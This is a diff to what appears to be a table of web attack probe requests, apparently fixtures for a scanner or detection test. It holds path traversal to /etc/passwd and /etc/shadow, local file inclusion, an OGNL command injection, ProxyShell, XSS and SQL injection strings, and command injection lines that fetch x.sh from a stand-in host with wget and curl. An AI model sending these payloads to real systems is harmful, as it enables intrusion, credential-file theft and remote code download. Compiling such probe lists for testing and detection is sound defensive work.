@@ -61,6 +61,7 @@ apache-2449              path  GET  /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd
 apache-2450              path  POST /cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/sh
 traversal-passwd         path  GET  /static/../../../../../../etc/passwd
 traversal-shadow         path  GET  /theme/../../../../../../../etc/shadow
+traversal-hosts          path  GET  /assets/../../../../../windows/system32/drivers/etc/hosts
 traversal-win-ini        path  GET  /..\\..\\..\\..\\windows\\win.ini
 grafana-plugins          path  GET  /public/plugins/alertlist/../../../../../../../../etc/passwd
 phpunit                  path  POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
@@ -76,7 +77,6 @@ asa-0296                 path  GET  /+CSCOU+/../+CSCOE+/files/file_list.json?pat
 ios-level                path  GET  /level/16/exec/-/show/running-config
 ios-level-99             path  GET  /level/99/exec/show/config/cr
 proxyshell               path  GET  /autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@evil.example
-tomcat-manager           path  GET  /manager/html
 jboss-console            path  GET  /jmx-console/HtmlAdaptor?action=inspectMBean&name=jboss.system:type=ServerInfo
 jboss-invoker            path  POST /invoker/JMXInvokerServlet
 weblogic-wsat            path  POST /wls-wsat/CoordinatorPortType
@@ -89,11 +89,9 @@ svn-entries              path  GET  /.svn/entries
 aws-credentials          path  GET  /.aws/credentials
 ssh-key                  path  GET  /.ssh/id_rsa
 phpmyadmin-setup         path  GET  /phpmyadmin/scripts/setup.php
-liferay                  path  POST /api/jsonws/invoke
 confluence-ognl          path  GET  /${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}/
 laravel-ignition         path  POST /_ignition/execute-solution
 hadoop-yarn              path  POST /ws/v1/cluster/apps/new-application
-telerik-rau              path  POST /Telerik.Web.UI.WebResource.axd?type=rau
 web-shell-c99            path  GET  /uploads/c99.php
 web-shell-r57            path  GET  /images/r57.php
 boaform                  path  POST /boaform/admin/formLogin
@@ -103,6 +101,7 @@ sharepoint-toolpane      path  POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&
 
 QUERIES = """
 lfi-passwd               query GET  /index.php?page=../../../../../../etc/passwd
+lfi-null-byte            query GET  /index.php?page=../../../../../../etc/passwd%00.html
 lfi-proc                 query GET  /view.php?file=../../../../../proc/self/environ
 lfi-boot-ini             query GET  /show.asp?doc=..\\..\\..\\..\\boot.ini
 php-filter               query GET  /index.php?page=php://filter/convert.base64-encode/resource=config
@@ -131,6 +130,7 @@ sqli-outfile             query GET  /cat.php?id=1 union select 1 into outfile '/
 xss-script               query GET  /search?q=<script>alert(document.cookie)</script>
 xss-onerror              query GET  /search?q=<img src=x onerror=alert(1)>
 xss-svg                  query GET  /search?q=<svg/onload=alert(1)>
+xss-iframe               query GET  /search?q="><iframe src=javascript:alert(1)>
 xss-javascript           query GET  /go?url=javascript:alert(document.domain)
 command-wget             query GET  /ping.php?host=127.0.0.1;wget http://192.0.2.66/x.sh
 command-curl             query GET  /diag.cgi?addr=127.0.0.1|curl http://192.0.2.66/x.sh
